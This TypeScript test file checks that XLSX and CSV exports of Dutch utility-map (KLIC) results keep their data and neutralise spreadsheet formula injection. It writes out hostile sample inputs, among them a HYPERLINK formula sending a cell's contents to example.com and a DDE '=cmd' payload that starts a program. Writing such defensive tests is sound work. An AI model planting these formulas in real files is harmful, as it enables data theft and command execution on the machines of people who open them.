/** The workbook of a result as GDAL reads it back, and lines of CSV. */
import assert from 'node:assert/strict'
import { type TestContext, test } from 'node:test'
import gdal from 'gdal-async'
import { csvLine } from '../../server/exports/formats/csv.ts'
import { TEST_NOTICE } from '../../server/exports/formats/words.ts'
import { writeXlsx } from '../../server/exports/formats/xlsx.ts'
import { readThrough } from '../../server/exports/formats/zip-file.ts'
import { openResult } from '../../server/exports/geopackage/read.ts'
import { createGeoPackage } from '../../server/exports/geopackage/write.ts'
import { LAYERS, type Row } from '../../server/imkl/model/layers.ts'
import { RESULT_TABLES } from '../../server/imkl/model/result.ts'
import { folder, ODD_TEXT, writeSample } from './samples.ts'

function sampled(t: TestContext, fill: (path: string) => void) {
  const at = folder(t)
  const gpkg = at.path('result.gpkg')
  fill(gpkg)
  const source = openResult(gpkg)
  t.after(() => source.close())
  const tables: Record<string, Row[]> = Object.fromEntries(RESULT_TABLES.map(({ name }) => [name, source.table(name)]))
  return { at, gpkg, source, tables }
}

// Where a first row could be data as well, GDAL must not guess.
gdal.config.set('OGR_XLSX_HEADERS', 'FORCE')

const rowsOf = (path: string, layer: string): Record<string, unknown>[] => {
  const set = gdal.open(path)
  try {
    return set.layers.get(layer).features.map((feature) => feature.fields.toObject())
  } finally {
    set.close()
  }
}

const FORMULA = '=HYPERLINK("http://example.com?"&A1,"klik")'

/** One object whose texts are formulas to a spreadsheet. */
const dangerous = (path: string): void => {
  const writer = createGeoPackage(path)
  writer.feature('diepte', { id: FORMULA, label: '+31-20-123', omschrijving: '-1.5', thema: '@SUM(A1)' }, null)
  writer.finish({ lastChange: null, warnings: [] })
}

test('a workbook has every object, the tables and a page of words, as GDAL reads it', async (t) => {
  const { at, source, tables } = sampled(t, (path) => writeSample(path, { isSimulated: true }))
  await writeXlsx({ path: at.path('result.xlsx'), source, tables })
  await readThrough(at.path('result.xlsx'))
  const set = gdal.open(at.path('result.xlsx'))
  const names = set.layers.map(({ name }) => name)
  set.close()
  assert.deepEqual(names, ['lees mij', 'objecten', 'voorzorgsmaatregelen', ...RESULT_TABLES.map(({ name }) => name)])
  const rows = rowsOf(at.path('result.xlsx'), 'objecten')
  assert.equal(rows.length, 4 * LAYERS.length)
  assert.ok(rows.every((row) => row.let_op === TEST_NOTICE))
  const odd = rows.find(({ id }) => id === 'nl.imkl-KL1234.diepte_2')!
  assert.equal(odd.referentie, ODD_TEXT)
  const full = rows.find(({ id }) => id === 'nl.imkl-KL1234.kabel_of_leiding_1')!
  assert.equal(
    String(full.aanlegdatum).slice(0, 10),
    String(rowsOf(at.path('result.gpkg'), 'kabel_of_leiding')[0]!.aanlegdatum).slice(0, 10),
  )
  const [first] = rowsOf(at.path('result.xlsx'), 'lees mij')
  assert.equal(first!['KLIC-gebiedsinformatie'], `*** ${TEST_NOTICE} ***`)
})

test('a list that is longer than a sheet goes on in the next one, and nothing is lost or doubled', async (t) => {
  const { at, source, tables } = sampled(t, (path) => writeSample(path))
  await writeXlsx({ path: at.path('result.xlsx'), source, tables }, 33)
  const ids = ['objecten', 'objecten 2', 'objecten 3'].map((name) =>
    rowsOf(at.path('result.xlsx'), name).map(({ id }) => id),
  )
  assert.deepEqual(
    ids.map(({ length }) => length),
    [32, 32, 8],
  )
  assert.equal(new Set(ids.flat()).size, 72)
})

test('a workbook holds no formula', async (t) => {
  const { at, source, tables } = sampled(t, dangerous)
  await writeXlsx({ path: at.path('result.xlsx'), source, tables })
  const [row] = rowsOf(at.path('result.xlsx'), 'objecten')
  assert.equal(row!.id, FORMULA, 'as text')
})

test('a line of CSV holds no formula that a spreadsheet would carry out', () => {
  assert.equal(csvLine(['=1+1', '+31-20-123', '-1.5', '@SUM(A1)']), `'=1+1,'+31-20-123,-1.5,'@SUM(A1)\r\n`)
  assert.equal(csvLine(['\t=1', '=1', -1, null, '', 'a,b']), `"'\t=1",'=1,-1,,"","a,b"\r\n`)
})

test('a CSV carries nothing out in a program that splits at semicolons or tabs, and reads back as it was', () => {
  const texts = [
    "opm;=cmd|'/C calc'!A0;x",
    'a\tb\t@SUM(A1)',
    'twee\r\n+31-20',
    'x;"=1+1"',
    ' =1',
    'a;b',
    '-5;7',
    '"";-1.5',
  ]
  const line = csvLine(['eerste', ...texts])
  // As a Dutch Excel has it: cells at every semicolon and line end, quotes that begin a cell taken off.
  const cells = line.split(/[;\t\r\n]/).map((cell) => cell.replace(/^[" ]+/, ''))
  assert.deepEqual(
    cells.filter((cell) => /^[=+\-@]/.test(cell) && !/^-[\d.]+"*,?/.test(cell)),
    [],
  )
  const fields = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  )
  const withoutGuards = fields.slice(1).map((field) => field.replaceAll(/(^|[;\t\r\n])'(?=[ "]*[=+\-@])/g, '$1'))
  assert.deepEqual(withoutGuards, texts)
})
